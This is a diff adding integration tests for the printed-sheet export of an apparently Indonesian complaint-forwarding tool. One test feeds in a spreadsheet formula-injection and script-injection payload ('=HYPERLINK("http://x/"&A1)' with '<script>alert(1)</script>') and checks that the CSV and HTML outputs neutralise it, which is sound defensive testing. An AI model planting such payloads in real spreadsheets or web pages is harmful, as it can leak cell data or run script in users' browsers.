@@ -1,11 +1,15 @@
 """Working by hand, to its end: sheets for officers, numbers typed back right and wrong, what waits,
 reminders, and the three ways out of a parked call."""
 
+import csv
+import io
 import json
+import os
+import pathlib
 from datetime import datetime, timedelta
 
-from harness import flow
-from harness.forwarding import Office
+from harness import flow, wait_until
+from harness.forwarding import PROFILES, Office
 
 WHY = ('--who', 'sri.utami', '--why', 'uji coba')
 DAY = 24 * 3600 * 1000
@@ -81,3 +85,125 @@ def test_numbers_typed_back(env):
         assert all(b['entered_on'] and b['by'] == 'person' for b in ends.values())
         assert ends[old['id']]['entered_on'] > ends[one['id']]['entered_on']
         assert 'entered on' in env.ctl('trace', old['ticket'])
+
+
+def files_below(folder):
+    return sorted(str(p.relative_to(folder)) for p in pathlib.Path(folder).rglob('*') if p.is_file())
+
+
+def tickets_in(path):
+    """Of a CSV, one row a sheet, in its order."""
+    raw = pathlib.Path(path).read_bytes()
+    assert raw.startswith(b'\xef\xbb\xbf') and raw.count(b'\r\n') >= 2
+    rows = list(csv.reader(io.StringIO(raw.decode('utf-8-sig'), newline='')))
+    assert rows[0][:4] == ['Tiket', 'Berkas isian', 'Judul laporan', 'Isi laporan']
+    assert {len(r) for r in rows} == {len(rows[0])}
+    return [r[0] for r in rows[1:]], rows[1:]
+
+
+@flow(limit=120, muara=DESK)
+def test_sheets_by_agency_and_day(env):
+    """Two agencies, two days: a document for each; made of the logs, not of the forwarder's files."""
+    with Office(env) as o:
+        o.start(o.destination('kantor', 'manual', max_filings_per_hour=0,
+                              agencies={'Dinas Perhubungan': '77', 'Dinas PU': '78'}))
+        evil = '=HYPERLINK("http://x/"&A1) <script>alert(1)</script>'
+        bus, light = handed(o, 'Bus terlambat', evil, agency='Dinas Perhubungan')
+        road, = handed(o, 'Jalan rusak', agency='Dinas PU')
+        nobody, = handed(o, 'Anjing liar', agency='Dewi Rahmawati')   # typed into the wrong field
+        o.later(26 * 3600 * 1000)
+        late, = handed(o, 'Rambu hilang', agency='Dinas Perhubungan')
+        first, second = (local_day(o.bodies(c, 'sheet')[-1]['at']) for c in (bus, late))
+        out = env.scratch.path('cetak')
+        code, told, _ = ctl(env, 'sheets', '--out', out)
+        assert code == 0 and [(t['day'], t['sheets']) for t in told if t['agency'] == 'Dinas Perhubungan'] == [
+            (first, 2), (second, 1)], told
+        found = files_below(out)
+        assert f'kantor/{first}/dinas-perhubungan.csv' in found and f'kantor/{first}/dinas-pu.html' in found
+        assert f'kantor/{second}/dinas-perhubungan.html' in found and len(found) == 8, found
+        assert 'dewi' not in ' '.join(found).lower(), 'what is typed into a field names no file'
+        assert {os.stat(os.path.join(out, f)).st_mode & 0o777 for f in found} == {0o640}
+
+        tickets, rows = tickets_in(os.path.join(out, f'kantor/{first}/dinas-perhubungan.csv'))
+        assert sorted(tickets) == sorted([bus['ticket'], light['ticket']])
+        row = next(r for r in rows if r[0] == light['ticket'])
+        assert row[2] == "'" + evil and not any(cell[:1] in '=+-@' and cell[:1] for r in rows for cell in r), row
+        page = pathlib.Path(out, f'kantor/{first}/dinas-perhubungan.html').read_text(encoding='utf-8')
+        assert page.count('<section ') == 2 and '<script>alert' not in page and 'Rambu' not in page
+
+        # What was typed back is no sheet any more; what is asked for alone comes alone.
+        assert ctl(env, 'resolve', bus['ticket'], '--filed', '7318990', *WHY, '--wait')[0] == 0
+        for args, want in (((), [light, road, nobody, late]), (('--day', second), [late]),
+                           (('--agency', 'dinas pu'), [road]), (('--destination', 'nirwana'), [])):
+            text = env.ctl('sheets', '--out', '-', *args)
+            assert [c for c in (bus, light, road, nobody, late) if c['ticket'] in text] == want, args
+        lines = env.ctl('sheets', '--out', '-', '--csv')
+        assert len(list(csv.reader(io.StringIO(lines)))) == 1 + 4
+        assert 'tanpa' not in env.ctl('sheets', '--out', out, '--agency', 'tanpa instansi')
+
+
+@flow(limit=120, muara=DESK)
+def test_sheet_is_of_its_version(env):
+    """What was handed out is printed, though the complaint has gone on."""
+    with Office(env) as o:
+        o.start(o.destination('kantor', 'manual', max_filings_per_hour=0))
+        c, = handed(o, 'Jalan rusak')
+        o.next_version(c, title='Jalan rusak parah', text='Jalan rusak parah')
+        wait_until(lambda: 'parah' in env.ctl('show', c['ticket']), 20, 'the second version')
+        page = env.ctl('sheets', '--out', '-')
+        assert 'Jalan rusak' in page and 'parah' not in page
+
+
+@flow(limit=120)
+def test_ways_out_of_a_parked_create(env):
+    with Office(env, total='6s') as o:
+        o.start(o.destination(concurrency=1, max_filings_per_hour=0, pause_base='100ms'))
+        lost = []
+        for text in ('Bus terlambat', 'Jalan rusak', 'Got mampet'):
+            o.lapor.script({'call': 'create', 'action': 'drop_after_store', 'times': 1})
+            lost.append(o.ready(text, agency='Dinas Perhubungan'))
+            o.wait_state(lost[-1], 'parked')
+            o.later(40 * 60 * 1000)          # its rest after an unclear answer is over
+        there, again, never = lost
+        shown = env.ctl('parked', 'show', there['ticket'])
+        a = o.attempts(there)[-1]
+        for word in (f"[Tiket {there['ticket']}]", '#muara', '12', 'Dinas Perhubungan', f'resolve {a.name} --filed',
+                     '--resend', '--drop', 'twice'):
+            assert word in shown, word
+        assert 'Bus' not in shown, 'words are on paper only'
+        out = env.scratch.path('cetak')
+        manual = os.path.join(PROFILES, 'manual.yaml')
+        assert 'no sheet is out' in env.ctl('sheets', '--out', out, '--profile', manual)
+        code, told, _ = ctl(env, 'sheets', '--parked', '--out', out, '--profile', manual)
+        assert code == 0 and sum(t['sheets'] for t in told) == 3
+        page = pathlib.Path(told[0]['html']).read_text(encoding='utf-8')
+        for word in ('Bus terlambat', 'Cari di admin SP4N-LAPOR!', 'tagar &quot;#muara&quot;', f'{a.name} --resend'):
+            assert word in page, word
+
+        # The three exits. LAPOR! holds all three: who resends without looking files twice, as was said.
+        number = str(o.stored(there)[0]['remote_id'])
+        assert ctl(env, 'resolve', there['ticket'], '--filed', number, *WHY, '--wait')[0] == 0
+        told_at_once = env.ctl('resolve', again['ticket'], '--filed', number, *WHY, check=False)
+        assert there['ticket'] in told_at_once.stderr and told_at_once.returncode == 1
+        assert ctl(env, 'resolve', never['ticket'], '--drop', *WHY, '--wait')[1]['state'] == 'dropped'
+        assert ctl(env, 'resolve', again['ticket'], '--resend', *WHY, '--wait')[1]['state'] == 'not_filed'
+        o.wait_state(again, 'done')
+        assert [len(o.creates(c)) for c in lost] == [1, 2, 1]
+        assert 'nothing is parked' in env.ctl('parked', 'list')
+        assert 'nothing is parked or refused' in env.ctl('sheets', '--parked', '--out', out, '--profile', manual)
+
+
+@flow(limit=120, muara=DESK)
+def test_killed_between_sheet_and_log(env):
+    """The sheet is on the disk, the log does not say so: it is handed out, not made a second time."""
+    with Office(env) as o:
+        d = o.start(o.destination('kantor', 'manual', max_filings_per_hour=0), crash='sheet-written:1',
+                    supervise=True, filing=False)
+        c = o.ready('Jalan rusak', destination='kantor')
+        wait_until(lambda: d.restarts == 1, 60, 'it was killed and is back')
+        o.wait_filing(d)
+        o.later(60 * 1000)                   # nothing of the dead one can be on its way any more
+        o.wait_state(c, 'handed', 'sheet')
+        assert o.kinds(c, 'sheet') == ['intent', 'handed']
+        assert len([f for f in os.listdir(env.scratch.path('sheets')) if f.endswith('.html')]) == 1
+        assert env.ctl('sheets', '--out', '-').count('<section ') == 1
